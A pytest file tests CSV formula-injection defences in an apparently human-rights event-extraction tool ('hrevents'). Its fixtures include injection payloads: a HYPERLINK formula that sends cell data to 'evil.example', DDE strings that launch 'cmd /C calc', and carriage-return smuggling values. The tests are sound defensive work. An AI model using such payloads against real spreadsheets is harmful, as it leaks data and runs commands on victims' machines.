"""CSV injection (OWASP): no cell a spreadsheet would run as a formula, and values come back intact."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from hrevents.gold_import import import_reviewed
from hrevents.reader import report_from_text
from hrevents.review import (
    REVIEW_COLUMNS,
    neutralise_cell,
    read_reviewed,
    unneutralise_cell,
    write_reviewed_csv,
)
from hrevents.writers import FORMULA_START, read_events, write_events
from hrevents_models import OUTPUT_COLUMNS, Event

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"click me")',
    "=1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+1",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
]
# A carriage return, at the start or inside a value: unquoted, it ends the row in CSV readers and the rest
# becomes a new cell that may start with a formula.
CARRIAGE_RETURNS = ["\r=1+1", "note\r=1+1"]
WRITER_CR_BUG = (
    "hrevents.writers.write_events writes CSV with a bare \\n line terminator, so pandas leaves a field holding "
    "\\r unquoted; fix: to_csv(..., lineterminator='\\r\\n') (see the review work's notes)"
)

CRAFTED = """---
title: crafted
covers: "2020"
---
=HYPERLINK("http://evil.example/?x="&A1,"click") On 3 May the police arrested Ivan Petrov in Minsk.

@SUM(1+1)*cmd|' /C calc'!A0 On 5 May police detained Olga Smirnova in Brest.

-2+3 On 9 May officers detained Anna Volkova.

+7 On 11 May the police arrested Sergei Ivanov in Hrodna.
"""


def raw_cells(path: Path) -> list[list[str]]:
    return list(csv.reader(io.StringIO(path.read_bytes().decode("utf-8-sig"), newline="")))


def dangerous(rows: list[list[str]]) -> list[str]:
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_START)]


def hostile_events(values: list[str] = HOSTILE) -> list[Event]:
    return [
        Event(
            event_id=f"e{n}",
            report_id="r",
            action="arrest",
            trigger=value,
            victim=value,
            perpetrator=value,
            place=value,
            detail=value,
            evidence=value,
            start_char=0,
            end_char=len(value),
            confidence=0.5,
            rule=value,
        )
        for n, value in enumerate(values)
    ]


@pytest.mark.parametrize("bom", [False, True])
def test_events_csv_is_neutralised_and_reads_back(tmp_path: Path, bom: bool) -> None:
    events = hostile_events()
    path = write_events(events, tmp_path / "events.csv", bom=bom)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf") is bom
    rows = raw_cells(path)
    assert rows[0] == list(OUTPUT_COLUMNS)  # stable column order, SPEC section 4, then the derived date interval
    assert dangerous(rows) == []
    assert read_events(path) == events


def test_events_csv_quotes_carriage_returns(tmp_path: Path) -> None:
    events = hostile_events(CARRIAGE_RETURNS)
    path = write_events(events, tmp_path / "events.csv")
    rows = raw_cells(path)
    assert dangerous(rows) == [] and len(rows) == 1 + len(events)
    assert read_events(path) == events


def test_reviewed_csv_is_neutralised_and_reads_back(tmp_path: Path) -> None:
    values = HOSTILE + CARRIAGE_RETURNS
    events = hostile_events(values)
    rows = [{**e.row(), "review_status": "wrong", "review_note": e.victim} for e in events]
    path = write_reviewed_csv(rows, tmp_path / "reviewed.csv", bom=True)
    cells = raw_cells(path)
    assert cells[0] == list(REVIEW_COLUMNS) and dangerous(cells) == [] and len(cells) == 1 + len(events)
    back = read_reviewed(path)
    assert [row.event() for row in back] == events
    assert [row.note for row in back] == values


@pytest.mark.parametrize(
    "value", [*HOSTILE, *CARRIAGE_RETURNS, "'=already quoted", "''@twice", "'", "plain", "", "it's", "-"]
)
def test_neutralising_is_reversible(value: str) -> None:
    written = neutralise_cell(value)
    assert not str(written).startswith(FORMULA_START)
    assert unneutralise_cell(str(written)) == value


def test_gold_import_of_hostile_evidence(tmp_path: Path) -> None:
    (tmp_path / "reports").mkdir()
    (tmp_path / "reports" / "crafted.txt").write_text(CRAFTED, encoding="utf-8")
    evidence = '=HYPERLINK("http://evil.example/?x="&A1,"click") On 3 May the police arrested Ivan Petrov in Minsk.'
    row = {column: "" for column in REVIEW_COLUMNS}
    row.update(
        report_id="crafted",
        action="arrest",
        victim="Ivan Petrov",
        evidence=evidence,
        review_status="correct",
        start_char=0,
        end_char=0,
        confidence=1,
    )
    path = write_reviewed_csv([row], tmp_path / "reviewed.csv")
    assert dangerous(raw_cells(path)) == []
    result = import_reviewed(path, tmp_path / "gold.jsonl")
    assert result.refused == [] and len(result.added) == 1
    line = json.loads((tmp_path / "gold.jsonl").read_text("utf-8"))
    assert line["events"][0]["evidence"] == evidence


@pytest.mark.model
def test_extracted_events_from_a_crafted_report_are_safe(extractor, tmp_path: Path) -> None:
    events = extractor.extract(report_from_text(CRAFTED, "crafted"))
    risky = [e for e in events if any(str(v).startswith(FORMULA_START) for v in e.row().values())]
    assert risky, "the crafted report should give events whose cells start with a formula character"
    for bom in (False, True):
        path = write_events(events, tmp_path / f"events-{bom}.csv", bom=bom)
        assert dangerous(raw_cells(path)) == []
        assert read_events(path) == events
